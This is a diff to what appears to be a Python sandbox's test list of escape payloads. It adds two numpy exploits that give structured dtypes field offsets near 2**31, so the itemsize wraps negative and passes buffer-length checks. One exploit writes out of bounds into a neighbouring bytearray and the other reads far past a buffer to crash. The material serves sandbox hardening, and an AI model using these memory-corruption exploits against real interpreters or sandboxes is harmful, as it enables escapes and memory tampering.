@@ -5112,6 +5112,36 @@ PAYLOADS = [
             return np.asarray(meta("X", (), {name: iface})()).tolist()
         """, on={GUARD}, off={OK}),
     # rev27 (2026-12-04): numpy's public API
+    Payload("numpy-frombuffer-negative-itemsize-write-other-bytearray", """
+        import numpy as np
+        def main():
+            bs = [bytearray(bytes([0x80 + i]) * 64) for i in range(64)]
+            def at(buf, k):
+                # the fields end at 2**31: the itemsize wraps a C int to -2**31, and
+                # numpy's "count * itemsize <= len(buffer)" check passes
+                dt = np.dtype({"names": ["x", "pad"], "formats": ["u8", "u1"],
+                               "offsets": [k, 2**31 - 1]})
+                return np.frombuffer(buf, dtype=dt, count=1)["x"]
+            for i in range(8):
+                for k in range(64, 8192, 8):
+                    cell = at(bs[i], k)
+                    value = int(cell[0])
+                    j = (value & 0xff) - 0x80
+                    if 0 <= j < 64 and j != i and value == int.from_bytes(bytes([0x80 + j]) * 8, "little"):
+                        cell[0] = int.from_bytes(b"OVERWRIT", "little")  # outside bs[i]
+                        return {"from": i, "offset": k, "itemsize": at(bs[i], 0).dtype.itemsize,
+                                "bs[%d]" % j: bytes(bs[j][:16]).decode("latin-1")}
+            return "not found"
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-ndarray-buffer-negative-itemsize", """
+        import numpy as np
+        def main():
+            a = bytearray(b"A" * 64)
+            dt = np.dtype({"names": ["x", "pad"], "formats": ["u8", "u1"],
+                           "offsets": [2**31 - 16, 2**31 - 1]})
+            v = np.ndarray((1,), dt, buffer=a)     # the sandbox's extent check sees -2**31 bytes
+            return hex(int(v["x"][0]))             # a + 2 GiB: unmapped -> SIGSEGV
+        """, on={GUARD, EXCEPTION}, off={CRASH, EXCEPTION}),
     Payload("numpy-random-generator-freed-bit-generator-capsule-pyrun", """
         import numpy as np
 
